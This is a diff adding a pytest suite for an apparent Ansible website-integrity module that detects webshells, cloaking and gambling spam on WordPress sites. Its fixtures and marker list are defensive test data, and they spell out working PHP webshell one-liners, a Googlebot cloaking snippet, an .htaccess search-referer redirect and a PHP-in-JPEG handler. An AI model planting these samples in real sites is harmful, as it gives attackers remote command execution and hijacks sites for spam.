@@ -1,0 +1,329 @@
+"""library/website_integrity.py, module_utils/sop_integrity*.py: webshell markers, the
+baseline's life (created, compared, never moved silently, accepted), planted files named,
+cloaking and hidden spam against a local HTTP server that answers per User-Agent and
+Referer, and WordPress posts and options in a real MariaDB."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from conftest import MariaDB
+from loader import ROOT, load
+
+integrity = load("sop_integrity")
+content = load("sop_integrity_content")
+mod = load("website_integrity")
+
+CLEAN_PHP = """<?php
+/* Theme functions */
+function court_title( $title ) { return esc_html( $title ); }
+$data = base64_decode( get_option( 'court_logo' ) );
+if ( isset( $_POST['s'] ) ) { $s = sanitize_text_field( wp_unslash( $_POST['s'] ) ); }
+add_filter( 'the_title', 'court_title' );
+"""
+WEBSHELL = "<?php @eval(base64_decode($_POST['x'])); ?>"
+CLOAK_SNIPPET = """<?php
+if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) {
+    echo '<div style="display:none"><a href="https://slot-gacor.example/">slot gacor</a></div>';
+}
+"""
+HTACCESS_REDIRECT = """# BEGIN WordPress
+RewriteEngine On
+RewriteCond %{HTTP_REFERER} (google|bing|yahoo) [NC]
+RewriteRule ^(.*)$ https://judi-online.example/ [R=302,L]
+"""
+
+
+@pytest.mark.parametrize(("text", "marker"), [
+    (WEBSHELL, "eval(base64_decode("),
+    ("<?php eval($_REQUEST['c']);", "eval($_REQUEST"),
+    ("<?php echo gzinflate(base64_decode('AAAA'));", "gzinflate(base64_decode("),
+    ("<?php assert($_POST['a']);", "assert($_POST"),
+    ("<?php preg_replace('/.*/e', $_POST['c'], '');", "preg_replace /e"),
+    ("<?php $f = create_function('', $_GET['c']);", "create_function($_"),
+    ("<?php system($_GET['cmd']);", "system($_POST"),
+    ("<?php $_POST['f']($_POST['a']);", "$_POST[x]("),
+    ("<?php file_put_contents('x.php', $_POST['c']);", "file_put_contents($_"),
+    ("<title>WSO Shell</title> FilesMan", "webshell signature"),
+    (CLOAK_SNIPPET, "user-agent cloaking"),
+    ("<?php if (strpos($_SERVER['HTTP_REFERER'], 'google')) header('Location: x');",
+     "referer cloaking"),
+    ("AddHandler application/x-httpd-php .jpg", "htaccess php handler"),
+    (HTACCESS_REDIRECT, "htaccess search-engine redirect"),
+])
+def test_markers(text, marker):
+    assert marker in integrity.markers(text)
+
+
+def test_clean_code_has_no_marker():
+    assert integrity.markers(CLEAN_PHP) == []
+    rules = "# BEGIN WordPress\nRewriteEngine On\nRewriteRule . /index.php [L]"
+    assert integrity.markers(rules) == []
+
+
+def site(root: Path) -> None:
+    files = {
+        "index.php": "<?php require __DIR__ . '/wp-blog-header.php';",
+        ".htaccess": "# BEGIN WordPress\nRewriteEngine On\nRewriteRule . /index.php [L]\n",
+        "wp-content/themes/court/functions.php": CLEAN_PHP,
+        "wp-content/themes/court/style.css": "body { color: #333 }",
+        "wp-content/plugins/hello/hello.php": "<?php // Hello Dolly",
+        "wp-content/uploads/2026/11/foto-1.jpg": "JPEG",
+        "wp-content/cache/page.html": "cached",
+    }
+    for name, text in files.items():
+        path = root / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+
+
+def params(root: Path, state: Path, **extra):
+    base = {"paths": [str(root)], "state_dir": str(state), "accept_baseline": False,
+            "exclude": ["*/cache/*", "*/cache"], "allow": [], "max_scan_bytes": 8 << 20,
+            "urls": [], "timeout": 5, "validate_certs": True, "ca_path": None,
+            "similarity": 0.6, "spam_keywords": content.SPAM_KEYWORDS, "table_prefix": "wp_"}
+    base.update(extra)
+    return base
+
+
+def names(result) -> set[str]:
+    return {f["name"] for f in result["findings"]}
+
+
+def test_baseline_created_compared_never_moved_then_accepted(tmp_path):
+    root, state = tmp_path / "www", tmp_path / "state"
+    site(root)
+    changed, first = mod.run(params(root, state), True, None)
+    assert changed and first["baseline"] == "created" and not state.exists()
+    changed, first = mod.run(params(root, state), False, None)
+    assert changed and first["baseline"] == "created" and first["findings"] == []
+    assert first["files"] == 6  # the cache folder is left out
+    baseline = Path(first["baseline_file"])
+    assert oct(baseline.stat().st_mode & 0o777) == "0o600"
+    assert oct(state.stat().st_mode & 0o777) == "0o700"
+    changed, clean = mod.run(params(root, state), False, None)
+    assert (changed, clean["baseline"], clean["findings"]) == (False, "compared", [])
+
+    shell = root / "wp-content/uploads/2026/11/cache-img.php"
+    shell.write_text(WEBSHELL)
+    (root / ".htaccess").write_text(HTACCESS_REDIRECT)
+    (root / "wp-content/themes/court/functions.php").write_text(CLEAN_PHP + CLOAK_SNIPPET)
+    (root / "wp-content/uploads/2026/11/foto-2.jpg").write_text("JPEG")
+    (root / "wp-content/plugins/hello/hello.php").unlink()
+    before = baseline.read_bytes()
+    for _ in range(2):  # the baseline is not moved by looking
+        changed, found = mod.run(params(root, state), False, None)
+        assert not changed and baseline.read_bytes() == before
+        assert names(found) == {
+            f"php_in_uploads: {shell}", f"webshell: {shell}", f"new_file: {shell}",
+            f"changed_file: {root / '.htaccess'}", f"webshell: {root / '.htaccess'}",
+            f"changed_file: {root / 'wp-content/themes/court/functions.php'}",
+            f"webshell: {root / 'wp-content/themes/court/functions.php'}",
+            f"removed_file: {root / 'wp-content/plugins/hello/hello.php'}",
+        }
+        assert (found["new"], found["changed"], found["removed"], found["media_added"]) == (
+            2, 2, 1, 1)
+    by_name = {f["name"]: f for f in found["findings"]}
+    assert by_name[f"changed_file: {root / '.htaccess'}"]["area"] == "htaccess"
+    assert by_name[f"webshell: {root / '.htaccess'}"]["markers"] == [
+        "htaccess search-engine redirect"]
+    assert by_name[f"webshell: {root / 'wp-content/themes/court/functions.php'}"]["area"] == "theme"
+
+    changed, accepted = mod.run(params(root, state, accept_baseline=True), False, None)
+    assert changed and accepted["baseline"] == "accepted"
+    # markers and PHP in uploads stay findings after an accept; changes do not
+    _changed, after = mod.run(params(root, state), False, None)
+    assert {f["kind"] for f in after["findings"]} == {"php_in_uploads", "webshell"}
+    allow = [str(root / ".htaccess"), str(root / "wp-content/themes/*"), str(shell)]
+    _changed, allowed = mod.run(params(root, state, allow=allow), False, None)
+    assert allowed["findings"] == []
+
+
+def test_missing_root_is_one_clear_error(tmp_path):
+    with pytest.raises(integrity.IntegrityError, match=r"/nope: not a directory"):
+        mod.run(params(tmp_path / "nope", tmp_path / "state"), False, None)
+
+
+PAGE = """<html><head><title>PN Contoh</title><script>var nonce = "{nonce}";</script></head>
+<body><h1>Pengadilan Negeri Contoh</h1><p>Jadwal sidang perkara perdata dan pidana hari ini.
+Pelayanan terpadu satu pintu buka pukul delapan. Informasi e-court dan gugatan mandiri.</p>
+<a href="/berita/">Berita</a> <a href="https://mahkamahagung.go.id/">Mahkamah Agung</a>
+<div style="display:none" class="menu-mobile">Menu</div>{extra}</body></html>"""
+HIDDEN_LINKS = ('<div style="position:absolute; left:-9999px"><a href="https://gacor88.example/">'
+                'slot gacor maxwin</a> <a href="https://togel.example/">togel</a></div>')
+
+
+class Handler(BaseHTTPRequestHandler):
+    counter = 0
+
+    def do_GET(self):
+        agent = self.headers.get("User-Agent", "")
+        referer = self.headers.get("Referer", "")
+        Handler.counter += 1
+        extra = ""
+        if self.path == "/cloak" and "Googlebot" in agent:
+            extra = HIDDEN_LINKS
+        if self.path == "/redirect" and "google." in referer:
+            self.send_response(302)
+            self.send_header("Location", "https://judi-online.example/")
+            self.end_headers()
+            return
+        if self.path == "/hidden":
+            extra = HIDDEN_LINKS
+        body = PAGE.format(nonce=Handler.counter, extra=extra).encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args):
+        pass
+
+
+@pytest.fixture(scope="module")
+def base():
+    srv = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=srv.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{srv.server_address[1]}"
+    srv.shutdown()
+
+
+def page_findings(base, path, tmp_path):
+    site(tmp_path / "www")
+    _changed, result = mod.run(params(tmp_path / "www", tmp_path / "state",
+                                      urls=[base + path]), False, None)
+    return result
+
+
+def test_clean_page_gives_no_finding(base, tmp_path):
+    result = page_findings(base, "/", tmp_path)
+    assert result["findings"] == []
+    assert result["pages"][base + "/"]["googlebot"]["status"] == 200
+
+
+def test_cloaking_for_googlebot_is_named(base, tmp_path):
+    url = base + "/cloak"
+    found = {f["name"]: f for f in page_findings(base, "/cloak", tmp_path)["findings"]}
+    assert set(found) == {f"cloaking: {url} (googlebot)", f"page_spam: {url}",
+                          f"hidden_text: {url} (position:absolute; left:-9999px)"}
+    reasons = found[f"cloaking: {url} (googlebot)"]["reasons"]
+    assert "kata kunci judi: maxwin, slot gacor, togel" in reasons
+    assert "tautan baru ke gacor88.example, togel.example" in reasons
+    assert found[f"page_spam: {url}"]["variants"] == ["googlebot"]
+    assert found[f"hidden_text: {url} (position:absolute; left:-9999px)"]["links"] == [
+        "gacor88.example", "togel.example"]
+
+
+def test_redirect_for_search_engine_visitors_is_named(base, tmp_path):
+    url = base + "/redirect"
+    found = {f["name"]: f for f in page_findings(base, "/redirect", tmp_path)["findings"]}
+    assert set(found) == {f"cloaking: {url} (search_referer)"}
+    assert found[f"cloaking: {url} (search_referer)"]["reasons"][:2] == [
+        "status 200 -> 302", "redirect ke https://judi-online.example/"]
+
+
+def test_hidden_spam_for_everyone_is_named(base, tmp_path):
+    url = base + "/hidden"
+    found = names(page_findings(base, "/hidden", tmp_path))
+    assert found == {f"page_spam: {url}", f"hidden_text: {url} (position:absolute; left:-9999px)"}
+
+
+def test_unreachable_page_is_a_finding(tmp_path):
+    site(tmp_path / "www")
+    _changed, result = mod.run(params(tmp_path / "www", tmp_path / "state",
+                                      urls=["http://127.0.0.1:9/"]), False, None)
+    assert [f["kind"] for f in result["findings"]] == ["page_unreachable"]
+
+
+def test_keywords_match_spelling_variants_not_words_inside_others():
+    pattern = content.keyword_pattern(["slot gacor", "togel", "akun pro"])
+    assert content.found_keywords("SLOT-GACOR hari ini, Slot_Gacor, slotgacor", pattern) == [
+        "slot gacor", "slotgacor"]
+    assert content.found_keywords("akun profil pengguna, togelan", pattern) == []
+
+
+WP_TABLES = """
+CREATE TABLE wp_posts (ID BIGINT UNSIGNED PRIMARY KEY, post_title TEXT, post_content LONGTEXT,
+  post_status VARCHAR(20), post_type VARCHAR(20));
+CREATE TABLE wp_options (option_id BIGINT UNSIGNED AUTO_INCREMENT PRIMARY KEY,
+  option_name VARCHAR(191) UNIQUE, option_value LONGTEXT);
+"""
+
+
+@pytest.mark.mariadb
+def test_wordpress_posts_and_options(mariadb: MariaDB, tmp_path):
+    mariadb.root_sql("DROP TABLE IF EXISTS wp_posts, wp_options;" + WP_TABLES)
+    rows = [
+        (1, "Jadwal Sidang", "<p>Sidang perkara perdata.</p>", "publish", "post"),
+        (2, "Profil", '<div style="display:none">menu</div><p>Profil pengadilan.</p>',
+         "publish", "page"),
+        (42, "Pelantikan Hakim", "<p>Pelantikan.</p>" + HIDDEN_LINKS, "publish", "post"),
+        (43, "Slot Gacor Maxwin", "<p>situs judi online terpercaya</p>", "draft", "post"),
+        (44, "rev", "slot gacor", "inherit", "revision"),
+        (45, "Hapus", "togel", "trash", "post"),
+    ]
+    values = ",".join("({}, '{}', '{}', '{}', '{}')".format(
+        i, t, c.replace("'", "\\'"), s, p) for i, t, c, s, p in rows)
+    mariadb.root_sql(
+        f"INSERT INTO wp_posts VALUES {values};"
+        "INSERT INTO wp_options (option_name, option_value) VALUES ('blogname', 'PN Contoh'),"
+        "('widget_text', 'a:1:{i:2;a:1:{s:4:\"text\";s:30:\"<a href=x>bandar togel</a>\";}}'),"
+        "('_transient_feed_x', 'slot gacor');")
+    conn = mod.Connection(binary="mariadb", database=mariadb.database, user=mariadb.user,
+                          password=mariadb.password, host=mariadb.host, port=mariadb.port)
+    site(tmp_path / "www")
+    _changed, result = mod.run(params(tmp_path / "www", tmp_path / "state"), False, conn)
+    found = {f["name"]: f for f in result["findings"]}
+    assert set(found) == {"post_spam: post 42 (Pelantikan Hakim)",
+                          "post_spam: post 43 (Slot Gacor Maxwin)", "option_spam: widget_text"}
+    assert found["post_spam: post 42 (Pelantikan Hakim)"]["post_id"] == 42
+    assert found["post_spam: post 42 (Pelantikan Hakim)"]["hidden"][0]["links"] == [
+        "gacor88.example", "togel.example"]
+    assert found["post_spam: post 43 (Slot Gacor Maxwin)"]["keywords"] == [
+        "judi online", "maxwin", "slot gacor"]
+    assert found["option_spam: widget_text"]["keywords"] == ["bandar togel"]
+    assert result["posts_checked"] == 4  # 2 (hidden style), 42, 43 and widget_text
+
+
+DRIVER = """
+import ansible.module_utils
+ansible.module_utils.__path__.append({utils!r})
+import runpy
+runpy.run_path({module!r}, run_name="__main__")
+"""
+
+
+def run_module(tmp_path: Path, args: dict) -> tuple[int, dict]:
+    args_file = tmp_path / "args.json"
+    args_file.write_text(json.dumps({"ANSIBLE_MODULE_ARGS": args}))
+    code = DRIVER.format(utils=str(ROOT / "module_utils"),
+                         module=str(ROOT / "library" / "website_integrity.py"))
+    proc = subprocess.run([sys.executable, "-c", code, str(args_file)], capture_output=True,
+                          text=True, check=False)
+    assert "Traceback" not in proc.stderr + proc.stdout
+    return proc.returncode, json.loads(proc.stdout)
+
+
+def test_module_bad_input_is_one_line(tmp_path):
+    rc, result = run_module(tmp_path, {"paths": [str(tmp_path / "nope")],
+                                       "state_dir": str(tmp_path / "s")})
+    assert rc != 0 and result["msg"] == f"website integrity: {tmp_path / 'nope'}: not a directory"
+    rc, result = run_module(tmp_path, {"paths": [str(tmp_path)], "similarity": 2})
+    assert rc != 0 and result["msg"] == "similarity must be between 0 and 1"
+
+
+def test_module_database_unreachable_is_one_line(tmp_path):
+    (tmp_path / "www").mkdir()
+    rc, result = run_module(tmp_path, {"paths": [str(tmp_path / "www")],
+                                       "state_dir": str(tmp_path / "s"), "database": "wordpress",
+                                       "login_host": "127.0.0.1", "login_port": 9,
+                                       "login_password": "secret-pw"})
+    assert rc != 0 and result["msg"].startswith("website database wordpress: ")
+    assert "secret-pw" not in json.dumps(result)
